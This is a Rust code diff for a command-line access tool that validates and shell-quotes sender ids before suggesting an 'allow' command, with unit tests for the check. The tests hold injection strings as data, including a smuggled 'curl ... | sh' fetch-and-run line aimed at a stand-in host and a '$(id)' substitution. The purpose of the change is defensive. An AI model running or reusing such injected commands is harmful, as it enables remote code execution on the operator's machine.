@@ -145,6 +145,31 @@ pub fn run(host: &Host, action: Action) -> anyhow::Result<ExitCode> {
     }
 }
 
+/// Whether `id` looks like an id some platform uses: Telegram's integers
+/// (negative for groups), Discord's snowflakes, fakechat's and webhook's
+/// short names. Only such ids get a suggested command; anything else was
+/// made up by someone, and the operator should look before allowing it.
+fn plausible_id(id: &str) -> bool {
+    let body = id.strip_prefix('-').unwrap_or(id);
+    let ok = |c: char| c.is_ascii_alphanumeric() || "_.:@-".contains(c);
+    (1..=64).contains(&id.len())
+        && body.chars().next().is_some_and(|c| c != '-')
+        && body.chars().all(ok)
+}
+
+/// The command that lets `id` in (`allow` or `group open`), quoted for the
+/// shell, or why there is none.
+fn suggest(command: &str, adapter: &str, id: &str) -> String {
+    if !plausible_id(id) || !crate::manifest::valid_name(adapter) {
+        return "(id has unexpected characters; not suggesting a command)".into();
+    }
+    format!(
+        "→ airlock access {command} {} {}",
+        crate::text::shell_quote(adapter),
+        crate::text::shell_quote(id)
+    )
+}
+
 fn list(access: &Access) -> anyhow::Result<String> {
     let mut out = String::from("allowed\n");
     let allowed = access.allowed()?;
@@ -170,31 +195,78 @@ fn list(access: &Access) -> anyhow::Result<String> {
     let dropped = access.dropped()?;
     if !dropped.is_empty() {
         out.push_str("recently dropped (newest first)\n");
-        for mut d in dropped {
+        for d in dropped {
             // Platform text: never let it move the cursor or forge a line.
-            d.sender_id = crate::text::one_line(&d.sender_id, 100);
+            let sender = crate::text::one_line(&d.sender_id, 100);
             let when = crate::router::time::iso8601((d.at.max(0) as u64) * 1000);
             let handle = d
                 .handle
                 .map(|h| format!(" @{}", crate::mcp::sanitize::value(&h)))
                 .unwrap_or_default();
             let words = crate::mcp::sanitize::value(&d.first_words);
-            match &d.closed_group {
-                Some(group) => {
-                    let group = crate::mcp::sanitize::value(group);
-                    writeln!(
-                        out,
-                        "  {when}  {}:{}{handle} in group {group}  \"{words}\"  → airlock access group open {} {group}",
-                        d.adapter, d.sender_id, d.adapter
-                    )?
-                }
-                None => writeln!(
-                    out,
-                    "  {when}  {}:{}{handle}  \"{words}\"  → airlock access allow {} {}",
-                    d.adapter, d.sender_id, d.adapter, d.sender_id
-                )?,
-            }
+            let (place, id, command) = match &d.closed_group {
+                Some(group) => (
+                    format!(" in group {}", crate::mcp::sanitize::value(group)),
+                    group.as_str(),
+                    "group open",
+                ),
+                None => (String::new(), d.sender_id.as_str(), "allow"),
+            };
+            let suggestion = suggest(command, &d.adapter, id);
+            writeln!(
+                out,
+                "  {when}  {}:{sender}{handle}{place}  \"{words}\"  {suggestion}",
+                d.adapter
+            )?;
         }
     }
     Ok(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn which_ids_get_a_command() {
+        let cases = [
+            ("123456789", true),
+            ("-1001234567890", true),
+            ("1234567890123456789", true),
+            ("web", true),
+            ("ada@example.org", true),
+            ("user.name_1:x-y", true),
+            ("", false),
+            ("-", false),
+            ("--help", false),
+            ("1; curl -s http://x.example|sh #", false),
+            ("$(id)", false),
+            ("a b", false),
+            ("a\nb", false),
+            ("it's", false),
+            ("zoë", false),
+            ("a\u{202E}b", false),
+        ];
+        for (id, ok) in cases {
+            assert_eq!(plausible_id(id), ok, "{id:?}");
+        }
+        assert!(plausible_id(&"9".repeat(64)));
+        assert!(!plausible_id(&"9".repeat(65)));
+    }
+
+    #[test]
+    fn suggestions_are_quoted_or_withheld() {
+        assert_eq!(
+            suggest("allow", "telegram", "-100123"),
+            "→ airlock access allow telegram -100123"
+        );
+        assert_eq!(
+            suggest("group open", "telegram", "-100123"),
+            "→ airlock access group open telegram -100123"
+        );
+        assert_eq!(
+            suggest("allow", "webhook", "1; curl -s http://x.example|sh #"),
+            "(id has unexpected characters; not suggesting a command)"
+        );
+    }
 }
